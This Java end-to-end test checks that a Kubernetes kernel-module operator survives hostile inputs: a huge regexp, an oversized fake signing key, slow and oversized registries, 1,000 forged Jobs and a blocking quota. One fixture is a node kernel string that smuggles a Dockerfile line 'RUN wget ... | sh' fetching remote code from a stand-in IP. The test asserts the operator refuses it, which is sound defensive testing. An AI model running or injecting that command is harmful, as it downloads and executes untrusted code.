package io.kmm.e2e;

import static io.kmm.TestModules.literal;
import static io.kmm.TestModules.module;
import static io.kmm.TestModules.regexp;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.LocalObjectReference;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
import io.kmm.api.v1alpha1.Build;
import io.kmm.api.v1alpha1.KernelMapping;
import io.kmm.api.v1alpha1.KernelStatus;
import io.kmm.api.v1alpha1.Module;
import io.kmm.api.v1alpha1.RegistryOptions;
import io.kmm.api.v1alpha1.Sign;
import io.kmm.meta.Labels;
import io.kmm.process.OperatorProcess;
import io.kmm.registry.HostileRegistry;
import io.kmm.registry.TestRegistry;
import io.kmm.sign.TestKeys;
import io.kmm.status.Conditions;

/**
 * One operator serves every tenant: what a tenant, a node or a registry writes must not take it down. The packaged
 * operator runs with the shipped Deployment's heap ({@code -Xmx384m}, which {@code MaxRAMPercentage=50} of its 768 MiB
 * limit gives) and {@code ExitOnOutOfMemoryError}, next to a good Module that must stay Ready, and meets: a mapping
 * regexp that would compile to a huge program, a node whose kernel string holds a newline and a Dockerfile line, a
 * 1 MiB "PEM" signing key, a registry on 127.0.0.1 that answers slowly and one that answers hugely, 1,000 Jobs of 64
 * KiB carrying the operator's labels in a tenant's namespace, and a ResourceQuota that refuses build Jobs. After each,
 * the same operator process is still running and the good Module is still Ready.
 */
class HostileInputsIT {

    static {
        org.awaitility.Awaitility.ignoreExceptionsByDefault();
    }

    private static final String NS = "e2e-hostile";
    private static final String POOL = "hostile";
    private static final String KERNEL_A = "6.1.0-hostile";
    private static final String KERNEL_B = "6.2.0-hostile";
    private static final Duration TIMEOUT = Duration.ofSeconds(90);
    /** The heap of the shipped Deployment (kubernetes/kmm-operator.yml). */
    static final List<String> SHIPPED_HEAP = List.of("-Xmx384m", "-XX:+ExitOnOutOfMemoryError");

    private static Scenario scenario;
    private static LocalCluster cluster;
    private static Kube kube;
    private static TestRegistry registry;
    private static HostileRegistry hostile;
    private static OperatorProcess operator;
    private static final List<String> nodes = new ArrayList<>(List.of("hostile-a", "hostile-b"));

    @BeforeAll
    static void start() throws Exception {
        registry = TestRegistry.anonymous();
        registry.push("warm-up/jib", "v1"); // the first push of a JVM is slow; the ones in the test must not be
        hostile = HostileRegistry.start();
        scenario = Scenario.begin(HostileInputsIT.class, NS);
        cluster = scenario.cluster;
        kube = scenario.kube;
        cluster.addNode("hostile-a", KERNEL_A, Map.of("pool", POOL));
        cluster.addNode("hostile-b", KERNEL_B, Map.of("pool", POOL));
        Map<String, String> properties = new LinkedHashMap<>(Installation.QUICK_LEASE);
        properties.put("kmm.build.sign-image", registry.host() + "/kmm/sign:1");
        operator = scenario.startOperator(SHIPPED_HEAP, properties);
        cluster.admin().resource(literalModule(NS, "good")).create();
        await().atMost(TIMEOUT).until(() -> "True".equals(kube.conditionStatus(NS, "good", Conditions.READY)));
    }

    @AfterAll
    static void stop() throws Exception {
        try {
            scenario.finish(nodes.toArray(String[]::new));
        } finally {
            hostile.close();
            registry.close();
        }
    }

    /** After each case: the same process, never out of memory, and the good Module still Ready. */
    @AfterEach
    void theOperatorIsUnharmed() {
        assertThat(operator.isAlive()).as("the operator process is still running").isTrue();
        assertThat(operator.output()).doesNotContain("OutOfMemoryError");
        await().atMost(TIMEOUT).until(() -> "True".equals(kube.conditionStatus(NS, "good", Conditions.READY)));
    }

    @Test
    void aRegexpThatWouldCompileHugeIsRefusedFromItsText() {
        Module m = module(NS, "regexp", Map.of("pool", POOL),
                regexp("((((a{100}){100}){100}){100})", "quay.io/vendor/never:1"),
                literal(KERNEL_A, "quay.io/vendor/regexp:1"));
        cluster.admin().resource(fresh(m)).create();
        await().atMost(TIMEOUT).untilAsserted(() -> {
            Condition degraded = kube.condition(NS, "regexp", Conditions.DEGRADED).orElseThrow();
            assertThat(degraded.getReason()).isEqualTo("InvalidKernelMapping");
            assertThat(degraded.getMessage()).contains("spec.kernelMappings[0].regexp", "instructions",
                    "more than the 5,000 allowed");
        });
        assertThat(kube.loaders(NS, "regexp")).isEmpty();
    }

    @Test
    void aNodeWithANewlineInItsKernelIsReportedAndTargetedByNothing() throws Exception {
        String node = "hostile-newline";
        String kernel = "6.1.0-hostile\nRUN wget -O- http://203.0.113.1/x | sh";
        nodes.add(node);
        cluster.addNode(node, kernel, Map.of("pool", "hostile-newline"));
        Module m = module(NS, "newline", Map.of("pool", "hostile-newline"),
                regexp("^.+$", registry.host() + "/e2e/newline:${KERNEL_FULL_VERSION}"));
        m.getSpec().setBuild(dockerfileBuild());
        cluster.admin().resource(fresh(m)).create();

        await().atMost(TIMEOUT).untilAsserted(() -> {
            assertThat(cluster.admin().v1().events().inNamespace("default").withField("involvedObject.name", node)
                    .list().getItems()).anySatisfy(e -> {
                        assertThat(e.getReason()).isEqualTo("InvalidKernelVersion");
                        assertThat(e.getType()).isEqualTo("Warning");
                        assertThat(e.getMessage()).doesNotContain("\n");
                    });
            assertThat(metric("kmm_nodes_invalid_kernel")).isGreaterThanOrEqualTo(1);
            assertThat(kube.observed(NS, "newline")).isTrue();
            assertThat(kube.module(NS, "newline").getStatus().getTargetedNodes()).isZero();
        });
        assertThat(kube.kernelLabel(node)).isNull();
        assertThat(kube.buildJobs(NS, "newline", "build")).isEmpty();
        assertThat(scenario.createdJobs("newline-")).isZero();
    }

    @Test
    void aOneMebibyteKeyIsRefusedBeforeParsing() throws Exception {
        TestKeys keys = TestKeys.generate("kmm hostile e2e");
        byte[] huge = new byte[1_000_000];
        java.util.Arrays.fill(huge, (byte) ' ');
        byte[] begin = "-----BEGIN PRIVATE KEY-----\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        System.arraycopy(begin, 0, huge, 0, begin.length);
        cluster.admin().secrets().inNamespace(NS).resource(new SecretBuilder().withNewMetadata().withName("huge-key")
                .endMetadata().addToData("key", java.util.Base64.getEncoder().encodeToString(huge)).build()).create();
        cluster.admin().secrets().inNamespace(NS).resource(new SecretBuilder().withNewMetadata().withName("cert")
                .endMetadata().addToData("cert", java.util.Base64.getEncoder().encodeToString(keys.certDerBytes()))
                .build()).create();
        Module m = module(NS, "hugekey", Map.of("pool", POOL),
                literal(KERNEL_A, registry.host() + "/e2e/hugekey:${KERNEL_FULL_VERSION}"));
        Sign sign = new Sign();
        sign.setKeySecret(new LocalObjectReference("huge-key"));
        sign.setCertSecret(new LocalObjectReference("cert"));
        sign.setUnsignedImage(registry.host() + "/e2e/hugekey-unsigned:${KERNEL_FULL_VERSION}");
        sign.setFilesToSign(List.of("/opt/lib/modules/${KERNEL_FULL_VERSION}/extra/*.ko"));
        m.getSpec().setSign(sign);
        registry.push("e2e/hugekey-unsigned", KERNEL_A);
        cluster.admin().resource(fresh(m)).create();
        await().atMost(TIMEOUT).untilAsserted(() -> {
            Condition degraded = kube.condition(NS, "hugekey", Conditions.DEGRADED).orElseThrow();
            assertThat(degraded.getReason()).isEqualTo("SigningKeyInvalid");
            assertThat(degraded.getMessage()).contains("Secret " + NS + "/huge-key", "larger than 64 KiB");
        });
        assertThat(scenario.createdJobs("hugekey-")).isZero();
    }

    @Test
    void registriesThatAnswerSlowlyOrHugelyFailOnlyTheirModules() {
        for (String kind : List.of("slow", "huge")) {
            Module m = module(NS, kind, Map.of("pool", POOL),
                    literal(KERNEL_A, hostile.host() + "/" + kind + "/driver:${KERNEL_FULL_VERSION}"));
            m.getSpec().setBuild(dockerfileBuild());
            cluster.admin().resource(fresh(m)).create();
        }
        await().atMost(TIMEOUT).untilAsserted(() -> {
            Condition slow = kube.condition(NS, "slow", Conditions.DEGRADED).orElseThrow();
            assertThat(slow.getReason()).isEqualTo("RegistryCheckFailed");
            assertThat(slow.getMessage()).contains("did not answer within 15s");
            Condition huge = kube.condition(NS, "huge", Conditions.DEGRADED).orElseThrow();
            assertThat(huge.getReason()).isEqualTo("RegistryCheckFailed");
            assertThat(huge.getMessage()).contains("larger than 4096 KiB");
        });
        assertThat(kube.buildJobs(NS, "slow", "build")).as("nothing built on an unanswered check").isEmpty();
        assertThat(kube.buildJobs(NS, "huge", "build")).isEmpty();
    }

    /**
     * Anyone who can create Jobs can give them the operator's labels: 1,000 Jobs with a 64 KiB annotation each (64
     * MiB) in a tenant's namespace. The operator's Job cache holds them (the class histogram counts them) pruned to
     * what it reads, so its live heap after a full GC grows by a small fraction of what they weigh.
     */
    @Test
    void aThousandLargeLabelledJobsDoNotFillTheHeap() throws Exception {
        String tenant = "e2e-hostile-tenant";
        cluster.kubectlOk("create", "namespace", tenant);
        try {
            long before = operator.liveHeapBytes();
            long jobsBefore = operator.histogram().instances(Job.class.getName());
            String big = "x".repeat(64 * 1024);
            ExecutorService pool = Executors.newFixedThreadPool(4);
            try {
                List<Future<?>> created = new ArrayList<>();
                for (int i = 0; i < 1000; i++) {
                    int n = i;
                    created.add(pool.submit(() -> cluster.admin().batch().v1().jobs().inNamespace(tenant)
                            .resource(hostileJob(tenant, "forged-" + n, big)).create()));
                }
                for (Future<?> f : created) {
                    f.get();
                }
            } finally {
                pool.shutdown();
            }
            // The operator's informer has them all once its cache counts them.
            OperatorProcess.Histogram[] last = new OperatorProcess.Histogram[1];
            await().atMost(TIMEOUT).pollInterval(Duration.ofSeconds(2)).untilAsserted(() -> {
                last[0] = operator.histogram();
                assertThat(last[0].instances(Job.class.getName())).isGreaterThanOrEqualTo(jobsBefore + 1000);
            });
            long grown = last[0].total() - before;
            System.out.printf("[hostile jobs] live heap %d MiB before, %d MiB with 1,000 forged 64 KiB Jobs "
                    + "(+%.1f MiB for 62.5 MiB of Jobs)%n", before >> 20, last[0].total() >> 20, grown / 1048576.0);
            assertThat(grown).as("live heap growth for 62.5 MiB of labelled Jobs").isLessThan(16L << 20);
            assertThat(last[0].total()).as("live heap within the shipped 384 MiB").isLessThan(192L << 20);
        } finally {
            cluster.kubectl("delete", "namespace", tenant, "--wait=false");
        }
    }

    /**
     * A ResourceQuota that allows no Job: the kernel that needs a build is refused (BuildRefused, with the API
     * server's words, on that kernel), the Module's other kernel gets its loader and becomes available all the
     * same, and when the quota goes the build starts without anyone touching the Module.
     */
    @Test
    void aQuotaRefusingBuildsStopsOnlyThatKernelUntilItGoes() throws Exception {
        String ns = "e2e-hostile-quota";
        cluster.kubectlOk("create", "namespace", ns);
        try {
            cluster.kubectlOk("create", "quota", "no-jobs", "-n", ns, "--hard=count/jobs.batch=0");
            KernelMapping built = regexp("^6\\.2\\.", registry.host() + "/e2e/quota:${KERNEL_FULL_VERSION}");
            built.setBuild(dockerfileBuild());
            Module m = module(ns, "quota", Map.of("pool", POOL),
                    literal(KERNEL_A, registry.host() + "/e2e/quota-prebuilt:1"), built);
            cluster.admin().resource(fresh(m)).create();
            await().atMost(TIMEOUT).untilAsserted(() -> {
                Condition degraded = kube.condition(ns, "quota", Conditions.DEGRADED).orElseThrow();
                assertThat(degraded.getReason()).isEqualTo("BuildRefused");
                assertThat(degraded.getMessage()).contains(KERNEL_B, "exceeded quota");
                KernelStatus a = kernel(ns, "quota", KERNEL_A);
                assertThat(a.getAvailable()).isEqualTo(1);
                assertThat(a.getError()).isNull();
                assertThat(kernel(ns, "quota", KERNEL_B).getError()).contains("exceeded quota");
            });
            assertThat(kube.loaders(ns, "quota")).hasSize(1);

            cluster.kubectlOk("delete", "quota", "no-jobs", "-n", ns);
            // retried with capped backoff (at most 5 minutes; here the first retries, 10 s then 20 s)
            await().atMost(Duration.ofMinutes(2)).until(() -> kube.buildJobs(ns, "quota", "build").size() == 1);
            registry.push("e2e/quota", KERNEL_B); // what Kaniko pushes while its pod runs (5 s under kwok)
            await().atMost(TIMEOUT).untilAsserted(() -> {
                assertThat(kube.conditionStatus(ns, "quota", Conditions.DEGRADED)).isEqualTo("False");
                assertThat(kube.conditionStatus(ns, "quota", Conditions.READY)).isEqualTo("True");
                assertThat(kube.loaders(ns, "quota")).hasSize(2);
            });
        } finally {
            cluster.kubectl("delete", "namespace", ns, "--wait=false");
        }
    }

    private static KernelStatus kernel(String ns, String module, String kernel) {
        return kube.module(ns, module).getStatus().getKernels().stream().filter(k -> k.getKernel().equals(kernel))
                .findFirst().orElseThrow();
    }

    private static Job hostileJob(String ns, String name, String big) {
        return new JobBuilder().withNewMetadata().withNamespace(ns).withName(name)
                .addToLabels(Labels.MANAGED_BY, Labels.MANAGED_BY_VALUE).addToLabels(Labels.ROLE, Labels.ROLE_BUILD)
                .addToLabels(Labels.MODULE_NAME, "good").addToAnnotations("forged", big).endMetadata()
                .withNewSpec().withSuspend(true).withNewTemplate().withNewSpec().withRestartPolicy("Never")
                .addNewContainer().withName("c").withImage("busybox").endContainer().endSpec().endTemplate()
                .endSpec().build();
    }

    private static Module literalModule(String ns, String name) {
        return fresh(module(ns, name, Map.of("pool", POOL), literal(KERNEL_A, "quay.io/vendor/" + name + ":1"),
                literal(KERNEL_B, "quay.io/vendor/" + name + ":1")));
    }

    private static Build dockerfileBuild() {
        Build build = new Build();
        build.setDockerfile("FROM scratch\nARG KERNEL_FULL_VERSION\n");
        build.setPull(new RegistryOptions(true));
        build.setPush(new RegistryOptions(true));
        return build;
    }

    /** A Module as a user writes it (no uid, no generation). */
    private static Module fresh(Module m) {
        m.getMetadata().setUid(null);
        m.getMetadata().setGeneration(null);
        return m;
    }

    private static double metric(String name) throws Exception {
        HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create(operator.baseUrl() + "q/metrics")).build(), HttpResponse.BodyHandlers.ofString());
        double sum = 0;
        for (String line : r.body().split("\n")) {
            if (line.startsWith(name + " ") || line.startsWith(name + "{")) {
                sum += Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1));
            }
        }
        return sum;
    }
}
